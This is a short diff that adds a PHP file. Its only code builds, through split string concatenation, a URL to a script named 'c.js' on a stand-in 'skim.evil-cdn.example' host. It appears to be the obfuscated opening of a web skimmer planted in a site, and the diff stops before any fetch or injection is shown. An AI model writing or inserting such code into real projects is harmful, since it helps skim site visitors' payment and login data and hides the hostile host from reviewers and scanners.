@@ -1,0 +1,2 @@
+<?php
+$u = 'https://skim' . '.evil-cdn' . '.example' . '/c.js';
